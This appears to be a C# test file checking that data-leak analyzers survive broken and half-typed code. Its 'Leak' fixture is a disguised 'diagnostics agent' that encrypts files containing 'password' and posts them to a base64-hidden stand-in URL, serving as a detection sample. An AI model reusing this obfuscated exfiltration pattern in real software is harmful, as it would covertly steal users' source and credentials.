using System.Collections.Generic;
using System.Linq;
using System.Threading.Tasks;
using ExfilAnalyzers.Tests.Verifiers;
using Xunit;

namespace ExfilAnalyzers.Tests.Conventions;

/// <summary>Analyzers never throw: not on empty files, half-typed code, or code that does not compile.</summary>
public class RobustnessTests
{
    /// <summary>A realistic leak, typed one piece at a time: every prefix is analysed as the IDE would.</summary>
    private const string Leak = """
        using System;
        using System.Linq;
        using System.Net.Http;
        using System.Security.Cryptography;
        using System.Text;
        using System.Threading.Tasks;
        using Microsoft.ApplicationInsights;
        using Microsoft.CodeAnalysis;

        namespace Contoso.Assistant;

        public sealed class PerformanceDiagnosticsAgent
        {
            private readonly TelemetryClient _client;
            private readonly HttpClient _http = new();
            private string _lastFile = "";

            public PerformanceDiagnosticsAgent(TelemetryClient client) => _client = client;

            public async Task OnDocumentAsync(Document document, ISymbol symbol)
            {
                var text = (await document.GetTextAsync()).ToString();
                _lastFile = document.FilePath ?? "";
                var names = symbol.ContainingType?.GetMembers().Select(m => m.Name).ToList();
                if (text.Contains("password") && names is { Count: > 0 })
                {
                    using var aes = Aes.Create();
                    var payload = aes.CreateEncryptor().TransformFinalBlock(Encoding.UTF8.GetBytes(text), 0, text.Length);
                    var url = Encoding.UTF8.GetString(Convert.FromBase64String("aHR0cHM6Ly9leGFtcGxlLm5ldC8="));
                    await _http.PostAsync(url, new ByteArrayContent(payload));
                }

                foreach (var name in names ?? new())
                {
                    _client.TrackEvent("symbol", new() { ["name"] = name, ["file"] = _lastFile });
                }

                switch (symbol)
                {
                    case IMethodSymbol { Name: var method } when method.StartsWith("Get"):
                        _client.TrackTrace(method);
                        break;
                }

                Local(symbol.Name);
                void Local(string value) => _client.TrackTrace(value);
            }
        }
        """;

    public static IEnumerable<object[]> BrokenSources()
    {
        yield return new object[] { "" };
        yield return new object[] { "using System;" };
        yield return new object[] { "class C { void M() { var x = symbol. } }" };
        yield return new object[] { "class C { void M(Microsoft.CodeAnalysis.ISymbol s) { new Microsoft.ApplicationInsights.TelemetryClient().TrackEvent(s.Name" };
        yield return new object[] { "class C { void M() { Undefined.Call(Missing.Value); var y = z + ; } }" };
        yield return new object[] { "class C { int P => ; event System.Action E { add { } } }" };
        yield return new object[] { "System.Console.WriteLine(Environment.UserName" };
        yield return new object[] { "class C { void M(Microsoft.CodeAnalysis.ISymbol s) { M(s, s); M(); this.M(s.Name); } }" };
        yield return new object[] { "class C { void M() { M(); } void N() => N(); static int F(int i) => i == 0 ? 0 : F(i - 1); }" };
        yield return new object[] { "class C { void M() { goto L; L: while (true) { try { } finally { break; } } } }" };
        yield return new object[] { "class C<T> where T : Microsoft.CodeAnalysis.ISymbol { void M(T t) { var (a, b) = t; _ = t switch { { Name: var n } => n }; } }" };
        // Regression: a lambda inside a try region (here the one 'using var' makes) once walked out into its method's handlers.
        yield return new object[] { "using System.IO; using System.Linq; class C { string[] M(string p) { using var r = new StringReader(p); try { return new[] { p }.Where(n => n.Length > 1).ToArray(); } catch { return null; } } }" };
        yield return new object[] { "record R(string A) { void M() { var r = this with { A = A + 1 }; } } partial class P { partial void Q(); }" };
        // Constructors called without naming their type, and captured parameters, half-typed.
        yield return new object[] { "class B { public B(string t) { } } class H(Microsoft.CodeAnalysis.ISymbol s) : B(s.Name" };
        yield return new object[] { "class H(string text, ) : Missing(text) { string T => text; void M() => text = ; }" };
        yield return new object[] { "class B { public B(string t) { } } class D : B { public D(Microsoft.CodeAnalysis.ISymbol s) : base(s. ) { } public D() : this( }" };
        yield return new object[] { "class C { C Make(string t) => new(t, ; Missing m = new(1); C(string t) { } }" };
        yield return new object[] { "record struct S(string A) : I(A); interface I { } class K(int) : S(1) { }" };
    }

    /// <summary>The same, for a primary constructor whose parameter a method sends, typed one piece at a time.</summary>
    private const string CapturedLeak = """
        using Microsoft.ApplicationInsights;
        using Microsoft.CodeAnalysis;

        class Stored(string text) { public string Text => text; }

        class Reporter(TelemetryClient client, string name) : Stored(name)
        {
            public void Flush() => client.TrackEvent(name);
        }

        class Agent : Stored
        {
            public Agent(ISymbol symbol) : base(symbol.Name) { }

            void Report(TelemetryClient client, ISymbol symbol) => new Reporter(client, symbol.Name).Flush();
        }
        """;

    [Fact]
    public async Task Every_prefix_of_a_captured_parameter_leak_being_typed_raises_no_analyzer_exception()
    {
        var prefixes = Enumerable.Range(1, CapturedLeak.Length / 11).Select(i => CapturedLeak.Substring(0, i * 11)).ToList();
        foreach (var prefix in prefixes)
        {
            var (diagnostics, exceptions) = await AnalyzerRunner.RunAsync(new[] { prefix });
            Assert.True(exceptions.Count == 0, $"prefix of {prefix.Length} characters: {string.Join("\n", exceptions)}");
            Assert.DoesNotContain(diagnostics, d => d.Id == "AD0001");
        }

        var (complete, _) = await AnalyzerRunner.RunAsync(new[] { CapturedLeak });
        Assert.Contains(complete, d => d.Id == "EXF1002");
    }

    [Theory]
    [MemberData(nameof(BrokenSources))]
    public async Task Broken_code_raises_no_analyzer_exception(string source)
    {
        var (diagnostics, exceptions) = await AnalyzerRunner.RunAsync(new[] { source });
        Assert.Empty(exceptions);
        Assert.DoesNotContain(diagnostics, d => d.Id == "AD0001");
    }

    [Fact]
    public async Task Every_prefix_of_a_leak_being_typed_raises_no_analyzer_exception()
    {
        var prefixes = Enumerable.Range(1, Leak.Length / 23).Select(i => Leak.Substring(0, i * 23)).Append(Leak).ToList();
        var analysed = 0;
        foreach (var prefix in prefixes)
        {
            var (diagnostics, exceptions) = await AnalyzerRunner.RunAsync(new[] { prefix });
            Assert.True(exceptions.Count == 0, $"prefix of {prefix.Length} characters: {string.Join("\n", exceptions)}");
            Assert.DoesNotContain(diagnostics, d => d.Id == "AD0001");
            analysed++;
        }

        // The whole sample still finds its leaks: the loop above ran the real analysis, not a no-op.
        var (complete, _) = await AnalyzerRunner.RunAsync(new[] { Leak });
        Assert.Contains(complete, d => d.Id == "EXF1001");
        Assert.Contains(complete, d => d.Id == "EXF1002");
        Assert.True(analysed > 50);
    }
}
